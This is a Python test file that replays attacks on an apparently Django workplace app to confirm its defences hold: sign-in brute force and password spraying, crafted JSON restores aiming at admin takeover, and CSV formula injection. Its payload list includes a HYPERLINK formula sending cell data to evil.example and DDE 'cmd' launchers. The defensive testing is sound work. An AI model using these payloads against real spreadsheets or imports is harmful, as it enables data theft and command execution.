"""Attacks from issue 14 (items 8 and 10) performed as an attacker would; each now gets nothing.

Sign-in throttling runs against the real settings (django-axes as configured in
ampwork.settings), not a test double.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Callable
from decimal import Decimal
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from axes.models import AccessAttempt
from django.conf import settings
from django.contrib.auth.hashers import make_password
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.utils import timezone

from ampwork.core import charts, csvexport
from ampwork.core import imports as people_imports
from ampwork.core.models import AuditEvent, Organisation, Person, Role
from ampwork.core.permissions import Actor
from ampwork.fairness import services as fairness_services
from ampwork.okrs import imports as okr_imports
from ampwork.okrs.models import Cycle, Objective
from ampwork.pulse import services as pulse_services

from ..conftest import PASSWORD
from ..factories import MembershipFactory, PersonFactory, TeamFactory

SIGN_IN = "/sign-in/"
LOCKED = "Too many failed sign-ins; try again in 15 minutes"


def _try(client: Client, email: str, password: str, address: str = "203.0.113.7") -> Any:
    return client.post(
        SIGN_IN, {"login": email, "password": password}, REMOTE_ADDR=address, follow=False
    )


def _signed_in(client: Client) -> bool:
    return "_auth_user_id" in client.session


# ---------------------------------------------------------------- item 8: sign-in throttling


def test_the_real_configuration_throttles() -> None:
    assert settings.AXES_ENABLED is True
    assert settings.AUTHENTICATION_BACKENDS[0] == "axes.backends.AxesStandaloneBackend"
    assert settings.MIDDLEWARE[-1] == "axes.middleware.AxesMiddleware"
    assert settings.AXES_FAILURE_LIMIT == 5
    assert settings.LOGIN_ADDRESS_FAILURE_LIMIT == 50
    assert settings.AXES_LOCKOUT_PARAMETERS == ["username"]
    assert settings.AXES_HANDLER == "ampwork.core.throttle.SignInHandler"
    assert dt.timedelta(minutes=15) == settings.AXES_COOLOFF_TIME
    assert settings.AXES_RESET_ON_SUCCESS is True


def test_two_hundred_wrong_passwords_are_locked_out_after_the_limit(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    victim = make_person(org, Role.ADMIN)
    assert victim.user is not None
    email = victim.user.email
    attacker = Client()
    statuses = [_try(attacker, email, f"guess-{i}").status_code for i in range(200)]
    limit = settings.AXES_FAILURE_LIMIT
    # below the limit: the ordinary "wrong password" form; on it and after: refused, 429
    assert statuses[: limit - 1] == [200] * (limit - 1)
    assert statuses[limit - 1 :] == [429] * (200 - limit + 1)
    assert 500 not in statuses

    # while locked even the right password is refused, from this address or any other
    for address in ("203.0.113.7", "198.51.100.23", "2001:db8::1"):
        response = _try(attacker, email, PASSWORD, address)
        assert response.status_code == 429
        assert LOCKED in response.content.decode()
        assert not _signed_in(attacker)
    # the account's spelling does not open a new count
    assert _try(Client(), email.upper(), PASSWORD, "192.0.2.55").status_code == 429

    # the lockout is in the organisation's audit log (once per address and wait, not 200 times)
    events = AuditEvent.objects.filter(organisation=org, action="login.locked_out")
    assert events.exists()
    assert events.count() <= 5
    event = events.order_by("created_at", "id").first()
    assert event is not None
    assert event.target_id == str(victim.pk)
    assert event.detail["email"] == email
    assert event.detail["address"] == "203.0.113.7"


NAT = "198.51.100.200"  # one shared address: a school's or an office's connection


def _email(person: Person) -> str:
    assert person.user is not None
    return person.user.email


def test_one_persons_typos_do_not_lock_out_everyone_at_a_shared_address(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    """The bug from the browser walk: 5 failures from one address locked every account there."""
    pupil, head, classmate = (make_person(org) for _ in range(3))
    limit = settings.AXES_FAILURE_LIMIT
    mistyping = Client()
    statuses = [_try(mistyping, _email(pupil), f"typo-{i}", NAT).status_code for i in range(limit)]
    assert statuses == [200] * (limit - 1) + [429]
    # the head teacher, at the same address, signs in
    office = Client()
    assert _try(office, _email(head), PASSWORD, NAT).status_code == 302
    assert _signed_in(office)
    # a classmate's own mistype is an ordinary wrong password, not a lockout; then they sign in
    desk = Client()
    wrong = _try(desk, _email(classmate), "oops", NAT)
    assert wrong.status_code == 200
    assert LOCKED not in wrong.content.decode()
    assert _try(desk, _email(classmate), PASSWORD, NAT).status_code == 302
    # the pupil's own account stays locked, from that address or any other
    assert _try(Client(), _email(pupil), PASSWORD, NAT).status_code == 429
    assert _try(Client(), _email(pupil), PASSWORD, "192.0.2.44").status_code == 429
    # audited once per address and wait: the pupil's account, locked by its own count
    events = AuditEvent.objects.filter(organisation=org, action="login.locked_out")
    assert {e.target_id for e in events} == {str(pupil.pk)}
    assert sorted(e.detail["address"] for e in events) == ["192.0.2.44", NAT]
    assert {e.detail["by"] for e in events} == {"account"}


def test_the_account_limit_counts_failures_from_any_address(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    below, on = make_person(org), make_person(org)
    limit = settings.AXES_FAILURE_LIMIT
    for i in range(limit - 1):  # just below, each from a different address
        assert _try(Client(), _email(below), "wrong", f"192.0.2.{10 + i}").status_code == 200
    assert _try(Client(), _email(below), PASSWORD, "192.0.2.99").status_code == 302
    statuses = [
        _try(Client(), _email(on), "wrong", f"192.0.2.{20 + i}").status_code for i in range(limit)
    ]
    assert statuses == [200] * (limit - 1) + [429]  # exactly on it
    assert _try(Client(), _email(on), PASSWORD, "192.0.2.98").status_code == 429  # and after


def _spray(count: int, address: str = NAT) -> list[int]:
    """One guess each for ``count`` different accounts (unknown ones too), from one address."""
    client = Client()
    return [
        _try(client, f"pupil{i}@school.example", "Summer2026!", address).status_code
        for i in range(count)
    ]


def test_password_spraying_from_one_address_is_locked_at_the_address_limit(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    assert settings.LOGIN_ADDRESS_FAILURE_LIMIT == 50
    limit = settings.LOGIN_ADDRESS_FAILURE_LIMIT
    sprayed, head, other = make_person(org), make_person(org), make_person(org)
    # just below the address limit: every guess is an ordinary wrong password …
    assert _spray(limit - 1) == [200] * (limit - 1)
    # … and someone else at that address still signs in
    head_client = Client()
    assert _try(head_client, _email(head), PASSWORD, NAT).status_code == 302
    assert _signed_in(head_client)
    # exactly on it: the guess that reaches it is refused, with the plain 429 page
    on = _try(Client(), _email(sprayed), "Summer2026!", NAT)
    assert on.status_code == 429
    assert LOCKED in on.content.decode()
    assert on["Retry-After"] == str(int(settings.AXES_COOLOFF_TIME.total_seconds()))
    # after it: every account is refused from that address, even with the right password
    late = Client()
    assert _try(late, _email(other), PASSWORD, NAT).status_code == 429
    assert not _signed_in(late)
    # … but the address lock does not lock the accounts: elsewhere they sign in
    assert _try(Client(), _email(other), PASSWORD, "192.0.2.1").status_code == 302
    assert _try(Client(), _email(sprayed), PASSWORD, "192.0.2.2").status_code == 302
    # the refusals of known accounts are in their organisation's audit log, as by address
    events = AuditEvent.objects.filter(organisation=org, action="login.locked_out")
    by_target = {e.target_id: e.detail for e in events}
    assert by_target[str(sprayed.pk)]["by"] == "address"
    assert by_target[str(sprayed.pk)]["address"] == NAT
    assert by_target[str(other.pk)]["by"] == "address"
    assert str(head.pk) not in by_target


def test_the_address_lock_lasts_the_cool_off_and_no_longer(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    person = make_person(org)
    limit = settings.LOGIN_ADDRESS_FAILURE_LIMIT
    assert _spray(limit)[-1] == 429
    cool_off = settings.AXES_COOLOFF_TIME
    AccessAttempt.objects.update(attempt_time=timezone.now() - cool_off + dt.timedelta(seconds=5))
    assert _try(Client(), _email(person), PASSWORD, NAT).status_code == 429  # just inside
    AccessAttempt.objects.update(attempt_time=timezone.now() - cool_off - dt.timedelta(seconds=5))
    client = Client()
    assert _try(client, _email(person), PASSWORD, NAT).status_code == 302  # just after
    assert _signed_in(client)


def test_the_limit_is_exact_and_a_success_resets_the_count(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    person = make_person(org)
    assert person.user is not None
    email = person.user.email
    client = Client()
    limit = settings.AXES_FAILURE_LIMIT
    for _ in range(limit - 1):  # just below the limit
        assert _try(client, email, "wrong password").status_code == 200
    assert _try(client, email, PASSWORD).status_code == 302  # still allowed
    client.logout()
    for _ in range(limit - 1):  # the success cleared the count
        assert _try(client, email, "wrong password").status_code == 200
    assert _try(client, email, "wrong password").status_code == 429  # exactly on it


def test_the_lock_lasts_the_cool_off_and_no_longer(
    org: Organisation, make_person: Callable[..., Person]
) -> None:
    person = make_person(org)
    assert person.user is not None
    email = person.user.email
    client = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        _try(client, email, "wrong password")
    cool_off = settings.AXES_COOLOFF_TIME
    AccessAttempt.objects.update(attempt_time=timezone.now() - cool_off + dt.timedelta(seconds=5))
    assert _try(client, email, PASSWORD).status_code == 429  # just inside the wait
    AccessAttempt.objects.update(attempt_time=timezone.now() - cool_off - dt.timedelta(seconds=5))
    assert _try(client, email, PASSWORD).status_code == 302  # just after it
    assert _signed_in(client)


def test_a_locked_account_keeps_its_api_tokens_and_sessions(
    org: Organisation,
    make_person: Callable[..., Person],
    bearer: Callable[[Person], dict[str, str]],
) -> None:
    """Throttling guards passwords only: a token or a session made before is not affected."""
    person = make_person(org)
    assert person.user is not None
    headers = bearer(person)
    session = Client()
    session.force_login(person.user)
    for _ in range(settings.AXES_FAILURE_LIMIT + 3):
        _try(Client(), person.user.email, "wrong password")
    assert _try(Client(), person.user.email, PASSWORD).status_code == 429
    assert Client().get("/api/v1/people", **headers).status_code == 200
    assert session.get("/").status_code == 200


def test_unknown_accounts_are_throttled_without_an_audit_event(db: Any) -> None:
    client = Client()
    statuses = [_try(client, "nobody@example.org", "x").status_code for _ in range(7)]
    assert statuses[-1] == 429
    assert AccessAttempt.objects.filter(username="nobody@example.org").exists()
    assert not AuditEvent.objects.filter(action="login.locked_out").exists()


@pytest.mark.parametrize("address", ["203.0.113.7"])
def test_the_sign_in_page_works_when_nobody_is_locked(
    org: Organisation, make_person: Callable[..., Person], address: str
) -> None:
    person = make_person(org)
    assert person.user is not None
    client = Client()
    response = _try(client, person.user.email, PASSWORD, address)
    assert response.status_code == 302
    assert _signed_in(client)


# ---------------------------------------------------------------- item 10: CSV formula injection

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str, evil: str) -> None:
    cells = _cells(text)
    assert "'" + evil in cells, (evil, cells)
    assert evil not in cells
    for cell in cells:
        assert not cell.startswith(csvexport.TRIGGERS) or csvexport._NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize("evil", EVIL)
def test_escape_every_formula_trigger(evil: str) -> None:
    assert csvexport.escape(evil) == "'" + evil
    assert csvexport.unescape(csvexport.escape(evil)) == evil
    _assert_safe(csvexport.text([["name"], [evil]]), evil)


@pytest.mark.parametrize(
    "value", ["Ada", "a=b", "", "'quoted'", "1-2", "e@x.org", "42", "-5", "+1.5", "-2e3", ".5"]
)
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert csvexport.escape(value) == value
    assert csvexport.unescape(value) == value


def test_escaping_round_trips_and_keeps_types() -> None:
    # a value that already looks escaped survives export and import unchanged
    assert csvexport.unescape(csvexport.escape("'=x")) == "'=x"
    assert csvexport.escape(-5) == -5
    assert csvexport.escape(Decimal("-1.5")) == Decimal("-1.5")
    assert csvexport.escape(None) == ""
    # quotes and separators are still the csv module's job
    assert _cells(csvexport.text([['=a,"b"']])) == ['\'=a,"b"']


@pytest.mark.parametrize("evil", EVIL[:4])
def test_okr_export_escapes_titles_and_imports_back(
    org: Organisation, admin_actor: Actor, evil: str, tmp_path: Path, capsys: Any
) -> None:
    cycle = Cycle.objects.create(
        organisation=org, name="Q4", start=dt.date(2026, 10, 1), end=dt.date(2026, 12, 31)
    )
    quoted = evil.replace('"', '""')
    text = f'cycle,objective,key_result,start,target\nQ4,"{quoted}",k,0,-10\n'
    okr_imports.import_okrs(actor=admin_actor, text=text)
    exported = okr_imports.export_rows(
        Objective.objects.filter(cycle=cycle)
        .prefetch_related("key_results", "parent_links__parent")
        .select_related("cycle", "owner_person", "owner_team")
    )
    _assert_safe(exported, evil)
    assert "-10" in _cells(exported)  # a negative number stays a number
    # the escaped file imports back to the same title
    other = Organisation.objects.create(name="Other", slug="other")
    Cycle.objects.create(organisation=other, name="Q4", start=cycle.start, end=cycle.end)
    path = tmp_path / "okrs.csv"
    path.write_text(exported, encoding="utf-8")
    call_command("import", "okrs", str(path), "--org", "other")
    assert Objective.objects.get(organisation=other).title == evil


def test_pulse_export_escapes_group_names(
    client: Client, org: Organisation, admin: Person, admin_actor: Actor
) -> None:
    evil = EVIL[0]
    team = TeamFactory(organisation=org, name=evil)
    for _ in range(3):
        MembershipFactory(team=team, person=PersonFactory(organisation=org))
    pulse = pulse_services.create_round(
        actor=admin_actor,
        name="Pulse",
        opens=timezone.localdate(),
        closes=timezone.localdate() + dt.timedelta(days=7),
    )
    pulse_services.open_round(actor=admin_actor, round=pulse)
    pulse_services.close_round(actor=admin_actor, round=pulse)  # results wait for closing
    assert admin.user is not None
    client.force_login(admin.user)
    response = client.get(f"/pulse/rounds/{pulse.pk}/export.csv")
    assert response.status_code == 200
    _assert_safe(response.content.decode(), evil)


def test_pay_report_export_escapes_role_names(
    client: Client, org: Organisation, admin: Person, admin_actor: Actor
) -> None:
    evil, level = EVIL[3], EVIL[1]
    for i in range(8):
        PersonFactory(organisation=org, email=f"p{i}@acme.example", job_role=evil, level=level)
    rows = "".join(
        f"p{i}@acme.example,2025-01-01,{60000 + 1000 * i},EUR,{'female' if i % 2 else 'male'}\n"
        for i in range(8)
    )
    fairness_services.import_pay(
        actor=admin_actor,
        kind="compensation",
        text="email,effective,base_pay,currency,gender\n" + rows,
    )
    assert admin.user is not None
    client.force_login(admin.user)
    response = client.get("/fairness/reports/eu/?format=csv")
    assert response.status_code == 200
    _assert_safe(response.content.decode(), evil)
    _assert_safe(response.content.decode(), level)


def test_autonomy_export_escapes_names(
    org: Organisation, admin: Person, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = EVIL[2]
    PersonFactory(organisation=org, name=evil)
    call_command("autonomy", "export", "--org", org.slug)
    _assert_safe(capsys.readouterr().out, evil)


# ---------------------------------------------------------------- item 10: crafted restores


def _crafted(victim_org: Organisation, outsider_user_pk: int | None) -> dict[str, Any]:
    """An 'export' of a new organisation that also makes someone an admin of ``victim_org``."""
    return {
        "format": "ampwork-export",
        "version": 1,
        "organisations": ["trojan"],
        "objects": [
            {
                "model": "core.organisation",
                "pk": 9001,
                "fields": {"name": "Trojan", "slug": "trojan", "kind": "company"},
            },
            {
                "model": "core.person",
                "pk": 9002,
                "fields": {
                    "organisation": victim_org.pk,
                    "user": outsider_user_pk,
                    "name": "Mallory",
                    "email": "mallory@evil.example",
                    "role": "admin",
                },
            },
        ],
    }


def _restore_file(tmp_path: Path, document: dict[str, Any], *flags: str) -> None:
    path = tmp_path / "crafted.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    call_command("import", str(path), *flags)


def test_a_crafted_export_cannot_make_an_outsider_admin_of_another_organisation(
    org: Organisation, other_org: Organisation, make_person: Callable[..., Person], tmp_path: Path
) -> None:
    outsider = make_person(other_org)  # an account that exists, in another organisation
    assert outsider.user is not None
    document = _crafted(org, outsider.user.pk)
    for flags in [(), ("--allow-outside-users",)]:  # the flag never allows another organisation
        with pytest.raises(CommandError) as caught:
            _restore_file(tmp_path, document, *flags)
        message = str(caught.value)
        assert "crafted.json" in message
        assert f"core.person #9002 points to core.organisation #{org.pk}" in message
        assert "not in this export" in message
    assert not Person.objects.filter(organisation=org, role=Role.ADMIN).exists()
    assert not Organisation.objects.filter(slug="trojan").exists()
    assert not Person.objects.filter(user=outsider.user, organisation=org).exists()


def test_linking_existing_accounts_needs_the_flag(
    other_org: Organisation, make_person: Callable[..., Person], tmp_path: Path
) -> None:
    outsider = make_person(other_org)
    assert outsider.user is not None
    document = _crafted(other_org, outsider.user.pk)
    document["objects"][1]["fields"]["organisation"] = 9001  # inside the restore this time
    with pytest.raises(CommandError) as caught:
        _restore_file(tmp_path, document)
    message = str(caught.value)
    assert f"core.person #9002 links to account core.user #{outsider.user.pk}" in message
    assert "--allow-outside-users" in message
    assert not Organisation.objects.filter(slug="trojan").exists()
    # asked explicitly, the operator gets what they asked for
    _restore_file(tmp_path, document, "--allow-outside-users")
    assert Person.objects.get(pk=9002).user == outsider.user


def test_a_crafted_export_cannot_take_over_an_account_by_its_email(
    org: Organisation, make_person: Callable[..., Person], tmp_path: Path
) -> None:
    """Without an id, Django's deserializer finds an account by its natural key (the email)
    and overwrites it, password included."""
    victim = make_person(org, Role.ADMIN)
    assert victim.user is not None
    document = {
        "format": "ampwork-export",
        "version": 1,
        "organisations": [],
        "objects": [
            {
                "model": "core.user",
                "fields": {
                    "email": victim.user.email,
                    "password": make_password("attacker's password"),
                    "is_active": True,
                    "is_staff": True,
                    "is_superuser": True,
                    "name": "",
                    "date_joined": "2026-01-01T00:00:00Z",
                    "groups": [],
                    "user_permissions": [],
                    "last_login": None,
                },
            }
        ],
    }
    with pytest.raises(CommandError, match=r"objects\[0\]\.pk: core\.user: a valid id"):
        _restore_file(tmp_path, document)
    victim.user.refresh_from_db()
    assert victim.user.check_password(PASSWORD)
    assert not victim.user.is_superuser


def test_references_to_other_rows_outside_the_export_are_refused(
    org: Organisation, tmp_path: Path
) -> None:
    team = TeamFactory(organisation=org, name="Existing")
    document = _crafted(org, None)
    document["objects"][1]["fields"]["organisation"] = 9001
    document["objects"].append(
        {
            "model": "core.teammembership",
            "pk": 9003,
            "fields": {"organisation": 9001, "team": team.pk, "person": 9002, "role": "lead"},
        }
    )
    with pytest.raises(
        CommandError, match=rf"core.teammembership #9003 points to core.team #{team.pk}"
    ):
        _restore_file(tmp_path, document)
    assert not Person.objects.filter(pk=9002).exists()


# ---------------------------------------------------------------- duplicate CSV columns


def test_plan_refuses_a_duplicate_column_naming_file_and_column(org: Organisation) -> None:
    text = "name,email,role,role\nMallory,m@x.example,member,admin\n"
    plan = people_imports.plan_people(org, text, "people.csv")
    assert [(e.field, e.line) for e in plan.errors] == [("role", 1)]
    assert "people.csv" in plan.errors[0].message
    assert "more than once" in plan.errors[0].message
    # exactly one copy of each column is fine
    assert people_imports.plan_people(org, "name,email,role\nM,m@x.example,member\n").ok


def test_cli_refuses_a_duplicate_column(org: Organisation, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text("name,email,email\nA,a@x.example,b@x.example\n", encoding="utf-8")
    with pytest.raises(CommandError) as caught:
        call_command("import", "people", str(path), "--org", org.slug)
    assert f"{path}: line 1: email: column appears more than once" in str(caught.value)
    assert not Person.objects.filter(organisation=org).exists()


def test_web_refuses_a_duplicate_column(client: Client, admin: Person) -> None:
    assert admin.user is not None
    client.force_login(admin.user)
    upload = SimpleUploadedFile("teams.csv", b"name,Name,name\nA,B,C\n", content_type="text/csv")
    response = client.post("/import/", {"kind": "teams", "file": upload})
    assert response.status_code == 400
    assert "more than once in the header of teams.csv" in response.content.decode()
    assert "ampwork_import" not in client.session  # nothing staged to import


def test_api_refuses_a_duplicate_column(
    client: Client, org: Organisation, admin: Person, bearer: Callable[[Person], dict[str, str]]
) -> None:
    PersonFactory(organisation=org, email="p@acme.example")
    text = "email,effective,base_pay,currency,base_pay\np@acme.example,2025-01-01,1,EUR,90000\n"
    response = client.post(
        "/api/v1/fairness/imports/compensation",
        {"csv": text},
        content_type="application/json",
        **bearer(admin),
    )
    assert response.status_code == 422
    (error,) = response.json()["detail"]
    assert error["loc"] == ["body", "line 1", "base_pay"]
    assert "compensation.csv" in error["msg"]


# ---------------------------------------------------------------- security headers


def _policy(response: Any) -> dict[str, list[str]]:
    parts = [p.split() for p in response["Content-Security-Policy"].split(";") if p.strip()]
    return {p[0]: p[1:] for p in parts}


@pytest.mark.parametrize(
    "url", ["/sign-in/", "/", "/api/v1/people", "/api/v1/docs", "/no-such-page/", "/healthz"]
)
def test_every_response_carries_the_policies(client: Client, admin: Person, url: str) -> None:
    assert admin.user is not None
    client.force_login(admin.user)
    response = client.get(url)
    policy = _policy(response)
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert not any("unsafe-eval" in v for values in policy.values() for v in values)
    permissions = response["Permissions-Policy"]
    for feature in ("camera", "microphone", "geolocation", "payment", "usb"):
        assert f"{feature}=()" in permissions


def test_no_template_or_chart_carries_an_inline_script() -> None:
    """What the policy refuses must not be what ampwork itself writes."""
    root = Path(settings.BASE_DIR)
    for template in root.rglob("*.html"):
        text = template.read_text(encoding="utf-8")
        assert "<script>" not in text, template
        assert " on" + "click=" not in text, template
        for tag in re.findall(r"<script[^>]*>", text):
            assert "src=" in tag or 'type="application/json"' in tag, (template, tag)
    html = charts.team_sizes([("<script>alert(1)</script>", 3), ("B", 4)])
    assert "<script" not in html
    assert 'class="plotly-graph-div js-chart"' in html
    figure = json.loads(unescape(re.search(r'data-figure="([^"]*)"', html).group(1)))  # type: ignore[union-attr]
    assert figure["data"][0]["y"] == ["<script>alert(1)</script>", "B"]


def test_a_nul_byte_in_the_address_is_refused_before_any_query(
    client: Client,
    org: Organisation,
    make_person: Callable[..., Person],
    bearer: Callable[[Person], dict[str, str]],
) -> None:
    """?q=…%00… reached PostgreSQL from the people list and answered 500 (schemathesis)."""
    admin = make_person(org, Role.ADMIN)
    api = client.get("/api/v1/people?q=k%00Q", **bearer(admin))
    assert api.status_code == 422
    assert api.json()["detail"][0]["loc"] == ["query", "q"]
    assert client.get("/api/v1/people?q=kQ", **bearer(admin)).status_code == 200
    assert admin.user is not None
    client.force_login(admin.user)
    page = client.get("/people/?q=a%00b")
    assert page.status_code == 400
    assert "'q' must not contain NUL bytes" in page.content.decode()
    assert client.get("/people/?show=all%00").status_code == 400
    assert client.get("/people/?q=ab").status_code == 200
